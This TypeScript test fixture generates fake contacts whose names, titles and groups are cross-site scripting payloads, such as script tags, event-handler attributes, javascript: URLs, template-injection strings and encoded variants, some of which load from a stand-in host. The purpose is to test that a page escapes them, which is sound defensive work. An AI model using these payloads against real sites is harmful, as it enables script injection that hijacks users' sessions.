/** Names that a careless page would run, each at most 60 characters long as a name may be. */
const wholes = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<scr<script>ipt>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '` onpointerenter=alert(1) `',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '<a href=javascript:alert(1)>Bob</a>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>Bob',
  '<math href=javascript:alert(1)>Bob',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import"//evil.example";</style>',
  '<p style=background:url(//evil.example)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p id="</noscript><img src=x onerror=alert(1)>">',
  '<svg><script>alert&#40;1)</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '{{constructor.constructor("alert(1)")()}}',
  "{{'a'.constructor.prototype.charAt=[].join}}",
  '@if (alert(1)) { Bob }',
  '@defer { <script>alert(1)</script> }',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[innerHTML]="alert(1)"',
  '(click)="alert(1)"',
  '__proto__',
  'constructor',
  '[object Object]',
  "');alert(1);//",
  '";alert(1);//',
  '*/alert(1)/*',
] as const;

/** Elements that run what stands in an attribute when they are shown, and those attributes. */
const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'marquee',
];
const attributes = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onanimationstart',
  'onpointerover',
];

const handlers = elements.flatMap((element) =>
  attributes.map((attribute) => `<${element} ${attribute}=alert(1)>`),
);

/** Contacts whose names, titles and groups are scripts: so many, and the first is one that answers. */
export function scriptContacts(count: number): readonly object[] {
  const scripts = [...wholes, ...handlers].slice(0, count);
  return scripts.map((name, index) => ({
    id: index === 0 ? 'bob' : `script-${index}`,
    name,
    title: scripts[(index + 1) % scripts.length],
    group: scripts[index % 7],
    number: `+447700900${String(1 + index * 9).padStart(3, '0')}`,
  }));
}
